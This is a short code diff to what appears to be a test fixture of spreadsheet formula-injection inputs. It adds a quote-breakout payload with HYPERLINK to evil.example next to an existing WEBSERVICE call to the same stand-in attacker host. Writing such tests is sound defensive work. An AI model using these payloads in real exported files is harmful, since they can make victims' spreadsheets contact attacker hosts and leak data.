@@ -19,6 +19,8 @@ export const FORMULA_LIKE = [
   "\t=1+1",
   "\r=1+1",
   '=WEBSERVICE("http://evil.example")',
+  // Breaks out of a string literal if a formula quotes it without doubling the quotes.
+  '")+HYPERLINK("http://evil.example")+("',
 ] as const;
 
 const LONG_TEXT = "长".repeat(10_000);
